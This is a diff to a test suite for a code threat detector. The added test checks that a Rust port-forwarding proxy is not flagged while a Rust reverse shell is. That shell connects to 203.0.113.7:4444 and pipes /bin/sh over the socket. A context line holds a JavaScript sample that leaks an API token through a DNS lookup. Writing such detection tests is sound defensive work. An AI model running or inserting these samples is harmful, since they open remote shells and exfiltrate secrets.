@@ -1541,6 +1541,14 @@ describe('configuration and tooling a project setup writes or runs', () => {
 });
 
 describe('precision on code that only looks like an attack', () => {
+  it('reads a task or thread spawned inside a program as code of that program, not a process it starts', () => {
+    const forward = 'use tokio::net::{TcpListener, TcpStream};\n\nasync fn main() {\n    let upstream = std::env::args().nth(1).unwrap();\n    let listener = TcpListener::bind("127.0.0.1:15432").await.unwrap();\n    loop {\n        let (mut inbound, _) = listener.accept().await.unwrap();\n        let upstream = upstream.clone();\n        tokio::spawn(async move {\n            let mut outbound = TcpStream::connect(&upstream).await.unwrap();\n            tokio::io::copy_bidirectional(&mut inbound, &mut outbound).await.ok();\n        });\n    }\n}';
+    expect(threats(fence('rust', forward))).toEqual([]);
+    expect(threats(fence('rust', forward.replace('tokio::spawn(async move {', 'std::thread::spawn(move || {')))).toEqual([]);
+    const shell = 'use std::net::TcpStream;\nuse std::os::unix::io::{AsRawFd, FromRawFd};\nuse std::process::{Command, Stdio};\n\nfn main() {\n    let s = TcpStream::connect("203.0.113.7:4444").unwrap();\n    let fd = s.as_raw_fd();\n    Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(fd) }).stdout(unsafe { Stdio::from_raw_fd(fd) }).spawn().unwrap();\n}';
+    expect(threats(fence('rust', shell))).toContain('threat/reverse-shell 8:1 error');
+    expect(threats(fence('rust', shell.replace('Command::new("/bin/sh")', 'Command::new("sh")').replace('.spawn()', '.status()')))).toContain('threat/reverse-shell 8:1 error');
+  });
   it('does not read a path resolved by pathlib as a DNS lookup', () => {
     expect(threats(fence('python', 'import os\nfrom pathlib import Path\n\ndef local_path(raw: str) -> Path:\n    candidate = Path(raw).expanduser()\n    resolved = (Path.cwd() / candidate).resolve()\n    return resolved\n\nprint(local_path(os.environ["API_TOKEN"]))'))).toEqual([]);
     expect(threats(fence('js', 'import dns from "node:dns";\nawait dns.promises.resolve(`${process.env.API_TOKEN}.lookup.example.net`);'))).toEqual(['threat/covert-channel 9:7 error']);
